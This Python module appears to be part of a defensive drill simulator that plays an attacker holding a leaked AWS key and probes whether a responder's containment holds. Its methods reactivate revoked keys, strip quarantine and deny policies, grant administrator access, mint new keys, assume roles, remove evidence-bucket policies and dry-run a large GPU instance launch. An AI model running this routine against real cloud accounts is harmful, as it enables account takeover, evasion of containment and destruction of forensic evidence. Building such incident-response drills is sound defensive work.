"""The attacker as a program: attacks once, then tries again with everything it holds or makes, whatever the responder does."""

import random
from collections.abc import Callable, Mapping
from dataclasses import replace
from functools import partial
from typing import Any, Final

from botocore.exceptions import ClientError

from sakimori.simulate.drill.attack import ALLOW_ALL, Raid
from sakimori.simulate.drill.hand import VIRGINIA, Bench, Hand, Pause, no_pause
from sakimori.simulate.drill.loot import ADMINISTRATOR, Loot
from sakimori.simulate.drill.record import Attack, Attempt, Held, Trick
from sakimori.simulate.identities import Credentials
from sakimori.simulate.state import Clock

KALI: Final = "aws-cli/2.17.0 md/awscrt#0.20.11 ua/2.0 os/linux#6.6.15-kali3 md/arch#x86_64 lang/python#3.11.8"
_REVOKES: Final = ("Revoke", "Quarantine", "Deny", "deny", "quarantine", "revoke")
_MOST_HELD: Final = 60
"""What is gained in new tries beyond that is not tried in turn."""


class Attacker:
    """One attacker at work. Not thread-safe: `attack` first, then `retry` from one thread at a time."""

    def __init__(self, raid: Loot, clock: Clock) -> None:
        self._raid = raid
        self.address = raid.leaked.address
        self._clock = clock
        self.evidence_bucket = ""
        """Where the responder keeps its evidence, once the attacker has heard of it; else any bucket that is named so."""

    def attack(self) -> Attack:
        """The whole attack; what came of it. Raises botocore's ClientError where the account does not let it happen."""
        return self._raid.run()

    @property
    def held(self) -> tuple[Held, ...]:
        """Every credential that it ever had, the leaked key first; some may be dead."""
        return tuple(self._raid.held)

    def hush(self) -> None:
        """From now on let no time of the story pass between calls: a drill's clock runs by itself."""
        self._raid.hands = {key: replace(hand, pause=no_pause) for key, hand in self._raid.hands.items()}
        self._raid.leaked = replace(self._raid.leaked, pause=no_pause)

    def retry(self) -> tuple[Attempt, ...]:
        """With every credential everything that an attacker would try again; what is gained on the way is tried too, once.

        Sessions that were gained now assume no roles in their turn before the next round: a round ends.
        """
        rounds = _Round(self._raid, self._clock, self.evidence_bucket)
        at_first = {each.id for each in self._raid.held}
        rounds.attempts += self._raid.comes_back()
        done: set[str] = set()
        while waiting := [each for each in self._raid.held[:_MOST_HELD] if each.id not in done]:
            done.add(waiting[0].id)
            rounds.tries(waiting[0], assumes=waiting[0].id in at_first)
        return tuple(rounds.attempts)


def with_leaked_key(  # noqa: PLR0913 - each is told by its name
    endpoint_url: str,
    credentials: Credentials,
    seed: int,
    clock: Clock,
    *,
    pause: Pause = no_pause,
    own: Credentials | None = None,
    tricks: frozenset[Trick] = frozenset(),
) -> Attacker:
    """An attacker who found a key. `pause` lets the story's time pass between calls; by default time passes by itself.

    `own` is a key of the attacker's own account behind the same endpoint, if there is one.
    """
    chance = random.Random(f"{seed}/leaked-key")  # noqa: S311 - a story, no secret
    address = f"192.0.2.{chance.randrange(20, 250)}"
    hand = Hand(bench=Bench(endpoint_url), credentials=credentials, address=address, agent=KALI, chance=chance, pause=pause)  # fmt: skip
    return Attacker(Raid(leaked=hand, chance=chance, clock=clock, tricks=tricks, own=own), clock)


class _Round:
    def __init__(self, raid: Loot, clock: Clock, evidence_bucket: str) -> None:
        self._raid, self._clock, self._bucket = raid, clock, evidence_bucket
        self.attempts: list[Attempt] = []

    def tries(self, held: Held, *, assumes: bool) -> None:
        hand = self._raid.hands[held.id]
        self._call(held, "sts", "get_caller_identity")
        if held.kind == "user_key":
            self._revives_key(held)
        if held.user:
            self._frees_user(held)
        if held.role:
            self._frees_role(held)
        self._makes_keys(held, hand)
        if assumes:
            self._assumes(held, hand)
        self._reaches_for_evidence(held)
        self._call(held, "ec2", "run_instances", region=VIRGINIA, target="p4d.24xlarge", ImageId="ami-12345678",
                   InstanceType="p4d.24xlarge", MinCount=1, MaxCount=1, DryRun=True)  # fmt: skip

    def _revives_key(self, held: Held) -> None:
        key = {"UserName": held.user, "AccessKeyId": held.id}
        self._call(held, "iam", "update_access_key", target=held.id, Status="Active", **key)

    def _frees_user(self, held: Held) -> None:
        user = {"UserName": held.user}
        listed = self._call(held, "iam", "list_user_policies", target=held.user, **user) or {}
        for name in filter(_revokes, listed.get("PolicyNames", ())):
            self._call(held, "iam", "delete_user_policy", target=held.user, PolicyName=name, **user)
        attached = self._call(held, "iam", "list_attached_user_policies", target=held.user, **user) or {}
        for each in attached.get("AttachedPolicies", ()):
            if _revokes(each["PolicyName"]):
                self._call(held, "iam", "detach_user_policy", target=held.user, PolicyArn=each["PolicyArn"], **user)
        self._call(held, "iam", "attach_user_policy", target=held.user, PolicyArn=ADMINISTRATOR, **user)

    def _frees_role(self, held: Held) -> None:
        name = held.role.rpartition("/")[2]
        listed = self._call(held, "iam", "list_role_policies", target=name, RoleName=name) or {}
        for policy in filter(_revokes, listed.get("PolicyNames", ())):
            self._call(held, "iam", "delete_role_policy", target=name, RoleName=name, PolicyName=policy)
        self._call(held, "iam", "put_role_policy", target=name, RoleName=name, PolicyName="inline", PolicyDocument=ALLOW_ALL)  # fmt: skip

    def _makes_keys(self, held: Held, hand: Hand) -> None:
        users = [held.user] if held.kind in {"user_key", "console"} else []
        if Trick.NEW_KEYS in self._raid.tricks and held.account == self._raid.account:
            users = list(dict.fromkeys(each.user for each in self._raid.held if each.kind == "user_key"))
        for user in users:
            arn = f"arn:aws:iam::{self._raid.account}:user/{user}"
            self._notes(held, "iam:CreateAccessKey", user, partial(self._raid.new_key, hand, user, arn))

    def _assumes(self, held: Held, hand: Hand) -> None:
        raid = self._raid
        # What came from outside is asked for from outside again.
        asking = hand.other(raid.own) if held.from_outside and raid.own else hand
        for role in tuple(raid.roles):
            deed = partial(raid.assume, asking, role, from_outside=held.from_outside)
            self._notes(held, "sts:AssumeRole", role, deed)

    def _reaches_for_evidence(self, held: Held) -> None:
        buckets = [self._bucket] if self._bucket else []
        if not buckets:
            listed = self._call(held, "s3", "list_buckets") or {}
            buckets = [each["Name"] for each in listed.get("Buckets", ()) if "evidence" in each["Name"]]
        for bucket in buckets:
            self._call(held, "s3", "delete_bucket_policy", target=bucket, Bucket=bucket)

    def _call(self, held: Held, service: str, method: str, *, region: str = "", target: str = "", **parameters: Any) -> Mapping[str, Any] | None:  # fmt: skip
        hand = self._raid.hands[held.id]
        name = f"{service}:{hand.bench.client(service).meta.method_to_api_mapping[method]}"
        found: list[Mapping[str, Any]] = []
        self._notes(held, name, target, lambda: found.append(hand.does(service, method, region=region, **parameters)))
        return found[0] if found else None

    def _notes(self, held: Held, call: str, target: str, deed: Callable[[], object]) -> None:
        error = ""
        try:
            deed()
        except ClientError as refused:
            error = str(refused.response.get("Error", {}).get("Code", "Unknown"))
        # EC2 says of a rehearsal by an error that it would have been done.
        error = "" if error == "DryRunOperation" else error
        self.attempts.append(Attempt(at=self._clock(), call=call, by=held.id, target=target, error=error))


def _revokes(policy: str) -> bool:
    return any(word in policy for word in _REVOKES)
